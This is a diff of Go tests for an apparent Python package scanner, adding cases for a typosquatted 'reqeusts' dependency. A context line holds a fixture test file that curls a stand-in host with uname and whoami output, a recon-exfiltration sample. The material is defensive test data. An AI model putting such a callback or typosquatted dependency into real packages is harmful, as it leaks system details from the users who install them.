@@ -87,6 +87,15 @@ func TestFixtures(t *testing.T) {
 				{"probe-9.9.9/probe/__init__.py", ""},
 				{"probe-9.9.9/probe/test_callback.py", "import subprocess\n\ndef test_callback():\n    subprocess.run([\"curl\", \"-fsSL\", \"http://203.0.113.7:8585/p?h=$(uname -a)&u=$(whoami)\"], shell=False)\n"}}),
 			rules: []string{"combo-recon-network"}},
+		{name: "clean SDK copy pulling in a typosquatted core package", want: finding.Suspicious,
+			path: writeTarGz(t, dir, "sdk-kms-2.16.1.tar.gz", []file{
+				{"sdk-kms-2.16.1/PKG-INFO", fmt.Sprintf(pkgInfo, "sdk-kms", "2.16.1") + "Requires-Dist: reqeusts>=2\nRequires-Dist: numpy\n"},
+				{"sdk-kms-2.16.1/sdk_kms/__init__.py", "def get_key(client, key_id):\n    return client.call('GetKey', key_id)\n"}}),
+			rules: []string{"dependency-typosquat"}},
+		{name: "popular dependencies are not judged", want: finding.Clean,
+			path: writeTarGz(t, dir, "tool-1.0.tar.gz", []file{
+				{"tool-1.0/PKG-INFO", fmt.Sprintf(pkgInfo, "tool", "1.0") + "Requires-Dist: requests>=2\nRequires-Dist: numpy\nRequires-Dist: reqeusts ; extra == 'x'\n"},
+				{"tool-1.0/tool/__init__.py", "def f():\n    return 1\n"}})},
 		{name: "stealer hidden in tests is weighed low", want: finding.Clean,
 			path: writeTarGz(t, dir, "lib-1.0.tar.gz", []file{
 				{"lib-1.0/PKG-INFO", fmt.Sprintf(pkgInfo, "lib", "1.0")},
